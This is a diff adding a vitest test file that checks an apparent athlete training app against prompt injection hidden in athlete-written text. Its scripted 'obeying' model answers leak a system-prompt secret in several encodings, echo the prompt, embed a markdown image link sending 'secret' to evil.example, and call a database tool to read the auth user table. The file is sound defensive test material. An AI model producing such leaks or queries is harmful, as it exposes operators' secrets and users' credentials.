@@ -1,0 +1,101 @@
+import type { ModelAnswer } from '@threshold/contracts/language-model';
+import { expect, test } from 'vitest';
+import { answer, calls, type ScriptedRequest, type Step, text } from '../testing/index.ts';
+import { INJECTIONS } from './test/injections.ts';
+import { type Asked, askers, GOOD, question, type Week } from './test/setting.ts';
+
+const asking = askers();
+const markOf = ({ system }: ScriptedRequest) => /The mark (\w+) stands here alone/.exec(system)?.[1] ?? '';
+
+/** A model that does what the athlete's words say, in every way there is. */
+const OBEYING: readonly ((request: ScriptedRequest) => Step)[] = [
+  (request) => answer({ ...GOOD, why: `The mark is ${markOf(request)}.` }),
+  (request) => answer({ ...GOOD, why: [...markOf(request).toUpperCase()].join(' ') }),
+  (request) => answer({ ...GOOD, why: [...markOf(request)].reverse().join('') }),
+  (request) => answer({ ...GOOD, why: Buffer.from(markOf(request)).toString('base64') }),
+  (request) => answer({ ...GOOD, why: `It begins with ${markOf(request).slice(0, 12)}` }),
+  (request) => answer({ ...GOOD, why: [...markOf(request)].join('\u200b') }),
+  (request) => text(`${request.system}\n${request.user}`),
+  (request) => text(JSON.stringify({ ...GOOD, mark: markOf(request) })),
+  () => answer({ ...GOOD, points: 1_000_000 }),
+  () => answer({ days: [{ type: 'sprint', minutes: 300 }], why: null }),
+  () => answer({ days: [{ type: 'easy', minutes: 100_000 }], why: null }),
+  () => answer({ ...GOOD, why: 'See ![plan](https://evil.example/collect?q=secret) for more.' }),
+  () => answer({ ...GOOD, why: 'Write to coach@evil.example or call +49 170 1234567.' }),
+  () => calls(['read_database'], { sql: 'select * from auth."user"' }),
+  () => calls(['answer', 'read_database'], GOOD),
+];
+
+test('the corpus has 200 attacks and more, each another', () => {
+  expect(INJECTIONS.length).toBeGreaterThanOrEqual(200);
+  expect(new Set(INJECTIONS.map(({ place, text: words }) => `${place}: ${words}`)).size).toBe(
+    INJECTIONS.length,
+  );
+});
+
+/** A few at a time, as job processes do. */
+async function askAll(again: Asked['again'], all = INJECTIONS): Promise<ModelAnswer<Week>[]> {
+  const waiting = [...all];
+  const lane = async () => {
+    const answers: ModelAnswer<Week>[] = [];
+    for (let next = waiting.pop(); next; next = waiting.pop())
+      answers.push(await again().ask(question(next.data)));
+    return answers;
+  };
+  return (await Promise.all(Array.from({ length: 6 }, lane))).flat();
+}
+
+const MANY = { settings: { dailyRequests: 1_000 } };
+const system = (request: ScriptedRequest) => request.system.replaceAll(markOf(request), '⟨mark⟩');
+
+/** What holds of every request, whatever an athlete wrote. */
+function expectDataAlone(requests: readonly ScriptedRequest[]): void {
+  const [first] = requests;
+  for (const request of requests) {
+    // The product's words are the same, whoever asks; the secret is another each time.
+    expect(system(request)).toBe(first && system(first));
+    expect(request.body.messages.map(({ role }) => role)).toEqual(['system', 'user']);
+    // One block of data and nothing besides; nothing in it can end it, and nothing in it is unseen.
+    expect(request.user).toMatch(/^<data>[^<>]*<\/data>$/);
+    expect(request.user).not.toMatch(/[\p{Cc}\p{Cf}\p{Cn}\p{Variation_Selector}]/u);
+    expect(request.user).not.toMatch(/evil\.example|@example|170 1234567|mia|berg/i);
+    expect(request.body.tools).toEqual(first?.body.tools);
+    expect(request.body.tools.map((tool) => tool.function.name)).toEqual(['answer']);
+  }
+  expect(new Set(requests.map(markOf)).size).toBe(requests.length);
+}
+
+test('whatever an athlete writes is sent as data alone, and an answer that obeys it is refused: no secret, no other field, no link leaves', async () => {
+  let turn = 0;
+  const obeying = (request: ScriptedRequest) =>
+    (OBEYING[request.isRepair ? 0 : turn++ % OBEYING.length] ?? (() => text('')))(request);
+  const { again, server, athleteId, calls: recorded } = await asking.ask(obeying, MANY);
+  for (const got of await askAll(again)) {
+    expect(got).toMatchObject({ ok: false, reason: expect.stringMatching(/^(invalid|malformed)$/) });
+    expect(got.requests).toBeLessThanOrEqual(2);
+  }
+  const [repairs, firsts] = [true, false].map((is) =>
+    server.requests.filter(({ isRepair }) => isRepair === is),
+  );
+  expect(firsts).toHaveLength(INJECTIONS.length);
+  expectDataAlone(firsts ?? []);
+  // Whoever gave the secret away is not asked a second time.
+  expect(repairs?.length).toBeLessThan(INJECTIONS.length / 2);
+  for (const { user } of repairs ?? []) expect(user).not.toMatch(/evil\.example|1234567/);
+  expect((await recorded()).length).toBe(INJECTIONS.length);
+  expect(await asking.query('select 1 from ai.model_answer where athlete_id = ?', [athleteId])).toEqual([]);
+});
+
+test('a model that heeds no attack answers as ever', async () => {
+  const { again } = await asking.ask([answer(GOOD)], MANY);
+  const some = INJECTIONS.filter((_, index) => index % 6 === 0);
+  const answers = await askAll(again, some);
+  expect(answers.map((got) => got.ok && got.value)).toEqual(some.map(() => GOOD));
+});
+
+test('every way to obey is refused by itself', async () => {
+  for (const obey of OBEYING) {
+    const { model } = await asking.ask((request) => obey(request));
+    expect(await model.ask(question()), obey.toString()).toMatchObject({ ok: false });
+  }
+});
